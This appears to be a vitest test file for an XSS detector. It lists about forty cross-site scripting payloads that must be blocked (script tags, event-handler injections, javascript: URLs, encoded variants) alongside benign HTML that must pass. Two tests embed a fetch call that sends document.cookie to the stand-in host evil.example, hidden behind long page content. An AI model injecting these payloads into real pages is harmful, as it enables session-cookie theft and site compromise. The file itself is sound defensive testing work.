import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { xss } from '../../src/detectors/xss.ts';
import { recognise } from '../support/field.ts';

type Row = [text: string, overrides: Partial<Field>];

const LOUD: Row[] = [
  ['<script>alert(1)</script>', { decodings: ['html'] }],
  ['<script type="text/javascript">x()</script>', {}],
  ['<script>alert(1)</script>', {}],
  ['<ScRiPt src=//evil.example/x.js>', {}],
  ['<img src=x onerror=alert(1)>', {}],
  ['<svg/onload=alert(1)>', {}],
  ['<svg><script>alert&#40;1)</script>', {}],
  ['"><img src=x onerror=prompt(1)>', {}],
  ["' onmouseover='alert(1)", {}],
  ['" autofocus onfocus=alert(1) x="', {}],
  ['<a href="javascript:alert(1)">x</a>', {}],
  ['<a href="jav&#x09;ascript:alert(1)">x</a>', {}],
  ['javascript:alert(document.cookie)', {}],
  ['<iframe src=javascript:alert(1)>', {}],
  ["<iframe srcdoc='<script>1</script>'>", {}],
  ['<body onload=alert(1)>', {}],
  ['<details open ontoggle=alert(1)>', {}],
  ['<video><source onerror=alert(1)>', {}],
  ['<object data=data:text/html;base64,PHNjcmlwdD4=>', {}],
  ['<embed src=//evil.example/x.swf>', {}],
  ['<base href=//evil.example/>', {}],
  ['<meta http-equiv=refresh content=0;url=javascript:alert(1)>', {}],
  ['<input onfocus=alert(1) autofocus>', {}],
  ['<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x', {}],
  ['<form action=javascript:alert(1)><input type=submit>', {}],
  ['<div style="width:expression(alert(1))">', {}],
  ["<style>@import 'javascript:alert(1)';</style>", {}],
  ['<marquee onstart=alert(1)>', {}],
  ["';alert(1)//", {}],
  ["'-alert(1)-'", {}],
  ['");alert(document.domain);//', {}],
  ['${alert(1)}', {}],
  ['<xss onclick=alert(1)>x', {}],
  ['<script>/*', {}],
  ['<img src=`x`onerror=alert(1)>', {}],
  ['onerror=alert;throw 1', {}],
  ['{onerror=alert}throw 1337', {}],
  ["location='javascript:alert(1)'", {}],
  ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', {}],
  ['<a href="ώjavascript:alert(1)">x</a>', {}],
  ['${[1].map(alert)}', {}],
  ['look at this nice picture of mine <script>alert(1)', {}],
];

const QUIET: Row[] = [
  ['<h1>Lamp</h1><script type="application/ld+json">{"@type":"Product"}</script>', {}],
  ['<script> tags are escaped', { decodings: ['html'] }],
  ['<p>Hello <b>world</b></p>', {}],
  ['<a href="https://example.com">link</a>', {}],
  ['<img src="https://cdn.example.com/a.png" alt="A lamp">', {}],
  ['<ul><li>one</li><li>two</li></ul>', {}],
  ['a < b && c > d', {}],
  ['x <3 y', {}],
  ['I <3 this', {}],
  ['if (a<b) return c>d;', {}],
  ['List<String> names = new ArrayList<>();', {}],
  ['Map<String, List<Integer>>', {}],
  ['<ann@example.com>', {}],
  ['Ann Lee <ann@example.com>', {}],
  ['-> and <- arrows', {}],
  ['1 < 2 > 0', {}],
  ['<br>', {}],
  ['<h1>Title</h1><p>Text with <em>emphasis</em>.</p>', {}],
  ['<table><tr><td>1</td></tr></table>', {}],
  ['<blockquote>quoted</blockquote>', {}],
  ['Use `<script>` tags with care', {}],
  ['```html\n<script src="app.js"></script>\n```', {}],
  ['안녕하세요 <b>고객님</b>', {}],
  ["don't click; call me (now)", {}],
  ['onclick handlers are described in chapter 3', {}],
  ['The event onerror= is documented', {}],
  ['https://example.com/?a=1&b=2', {}],
  ['{"a": "b"}', {}],
  ['f(x) = alert level 3', {}],
  ['she said: "alert (code 7) was raised"', {}],
  ['"quoted"; then more', {}],
  ['price: $5 (sale)', {}],
  ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36', {}],
  ['data:image/png;base64,iVBORw0KGgo=', {}],
  ['<xml version="1.0"><item>1</item></xml>', {}],
  ['<tt>code</tt>', {}],
  ['5 > 3 = true', {}],
  ['a=b; c=d', {}],
  ['스크립트 태그 <script> 는 자바스크립트를 실행합니다', {}],
  ['<a href="javascript-basics.html">x</a>', {}],
  ['<a href="/über-javascript:-eine-einführung">x</a>', {}],
  ['${items.map(render)}', {}],
  ['<ul> und <ol> dürfen unmittelbar nur <li>-, <script>- oder <template>-Elemente enthalten', {}],
  ['リスト要素が正しく構造化されている <ul> と <script> 要素だけを含む', {}],
];

describe('xss', () => {
  it.each(LOUD)('blocks %j', (text, overrides) => {
    expect(recognise(xss, text, overrides)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('does not block %j', (text, overrides) => {
    expect(recognise(xss, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
  });
});

it('blocks a script behind more of a page than is read', () => {
  const piece = `<div class="a">\n<p>Hello</p>\n</div>\n${'<p>one more line</p>\n'.repeat(5_500)}<script>\nvar a = 1;\n</script>\n`;
  const text = `${piece}<script>\nfetch('//evil.example/?' + document.cookie);\n</script>\n<p>end</p>`;
  expect(recognise(xss, text, { location: 'body' })?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
});

it('blocks a script behind however much of a whole page, and leaves the page alone without it', () => {
  const page = (script: string): string =>
    `<!doctype html>\n<html><head><title>News</title></head>\n<body>\n${'<p>one more line</p>\n'.repeat(5_500)}<script>\n${script}\n</script>\n</body></html>`;
  const confidenceOf = (script: string): number => recognise(xss, page(script), { location: 'body' })?.confidence ?? 0;
  expect(confidenceOf("fetch('//evil.example/?' + document.cookie);")).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  expect(confidenceOf("var seen = document.cookie.indexOf('seen=1') >= 0;")).toBeLessThan(0.3);
});
